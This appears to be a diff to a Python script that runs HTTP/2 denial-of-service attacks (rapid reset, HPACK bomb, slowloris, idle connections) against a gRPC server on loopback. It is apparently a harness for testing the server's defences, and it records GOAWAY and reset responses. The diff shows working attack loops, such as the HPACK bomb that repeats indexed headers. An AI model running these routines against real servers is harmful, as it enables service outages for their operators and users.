@@ -1,7 +1,7 @@
 #!/usr/bin/env python3
 """HTTP/2 abuse against a gRPC server on loopback, one attack per subcommand.
 
-Usage: h2_abuse.py ATTACK HOST PORT [--count N] [--seconds S]
+Usage: h2_abuse.py ATTACK HOST PORT [--count N] [--seconds S] [--linger S]
 
 Frames are crafted with `hyperframe` and header blocks with `hpack` (both come with the
 `h2` package), so the attacks can break the rules a well-behaved HTTP/2 library keeps.
@@ -42,23 +42,26 @@ class Conn:
         self.buf = b""
         self.goaway = None
         self.rst = {}
-        self.closed = False
+        self.closed = False  # the read side saw EOF or a reset
+        self.send_failed = False
         self.frames_sent = 0
         self.responses = 0
         self.server_max_streams = None
+        self.server_settings = {}
         self.enc = Encoder()
         self.host = "%s:%d" % (host, port)
         if handshake:
             self.send_raw(PREFACE + SettingsFrame(0).serialize())
 
     def send_raw(self, data):
-        if self.closed:
+        if self.closed or self.send_failed:
             return False
         try:
             self.sock.sendall(data)
             return True
         except OSError:
-            self.closed = True
+            # The server closed: what it sent before (a GOAWAY) is still to be read.
+            self.send_failed = True
             return False
 
     def send(self, frames):
@@ -123,6 +126,7 @@ class Conn:
             elif kind == 0x4 and not flags & 0x1:  # SETTINGS: acknowledge
                 for i in range(0, len(payload) - 5, 6):
                     ident, value = struct.unpack(">HI", payload[i : i + 6])
+                    self.server_settings[str(ident)] = value
                     if ident == 0x3:
                         self.server_max_streams = value
                 self.send_raw(SettingsFrame(0, flags=["ACK"]).serialize())
@@ -138,10 +142,11 @@ class Conn:
             "attack": attack,
             "goaway": self.goaway,
             "rst_codes": {str(k): v for k, v in sorted(self.rst.items())},
-            "closed": self.closed,
+            "closed": self.closed or self.send_failed,
             "frames_sent": self.frames_sent,
             "responses": self.responses,
             "elapsed_s": round(time.monotonic() - started, 3),
+            "server_settings": self.server_settings,
         }
         out.update(extra)
         return out
@@ -151,7 +156,7 @@ def flood(conn, make_batch, args, stop_on_goaway=True):
     """Sends batches until the server cuts the connection off (or the bounds are hit)."""
     deadline = time.monotonic() + args.seconds
     sent = 0
-    while sent < args.count and time.monotonic() < deadline and not conn.closed:
+    while sent < args.count and time.monotonic() < deadline and not conn.closed and not conn.send_failed:
         batch = make_batch(sent)
         if not conn.send(batch):
             break
@@ -159,7 +164,7 @@ def flood(conn, make_batch, args, stop_on_goaway=True):
         conn.poll(0)
         if stop_on_goaway and conn.goaway is not None:
             break
-    conn.finish(5)
+    conn.finish(args.linger)
 
 
 def rapid_reset(conn, args):
@@ -200,7 +205,7 @@ def hpack_bomb(conn, args):
     table = list(conn.enc.header_table.dynamic_entries)
     index = 62 + next(i for i, (name, _) in enumerate(table) if name == b"bomb")
     streams = 1
-    while streams < min(args.count, 200) and time.monotonic() < deadline and not conn.closed:
+    while streams < min(args.count, 200) and time.monotonic() < deadline and not (conn.closed or conn.send_failed):
         sid += 2
         block = conn.request_headers(sid) + bytes([0x80 | index]) * 2000
         conn.send([HeadersFrame(sid, block, flags=["END_HEADERS", "END_STREAM"])])
@@ -208,7 +213,7 @@ def hpack_bomb(conn, args):
         conn.poll(0.005)
         if conn.goaway is not None:
             break
-    conn.finish(3)
+    conn.finish(args.linger)
     return {"requests": streams, "decoded_bytes_per_request": 2000 * 3536}
 
 
@@ -279,7 +284,7 @@ def slowloris(conn, args, http1=False):
     data = b"GET / HTTP/1.1\r\nHost: x\r\nX-a: " if http1 else PREFACE
     i = 0
     deadline = started + args.seconds
-    while not conn.closed and time.monotonic() < deadline and i < len(data) - 1:
+    while not (conn.closed or conn.send_failed) and time.monotonic() < deadline and i < len(data) - 1:
         conn.send_raw(data[i : i + 1])
         i += 1
         conn.poll(0.5)
@@ -300,7 +305,7 @@ def idle_connections(args):
     time.sleep(1.0)
     for c in conns:
         c.poll(0)
-    closed = sum(1 for c in conns if c.closed)
+    closed = sum(1 for c in conns if c.closed or c.send_failed)
     kept = len(conns) - closed
     for c in conns:
         c.sock.close()
@@ -329,6 +334,9 @@ def main():
     p.add_argument("port", type=int)
     p.add_argument("--count", type=int, default=100000)
     p.add_argument("--seconds", type=float, default=10.0)
+    p.add_argument(
+        "--linger", type=float, default=5.0, help="seconds to wait for the server to close"
+    )
     args = p.parse_args()
     started = time.monotonic()
     if args.attack == "idle_connections":
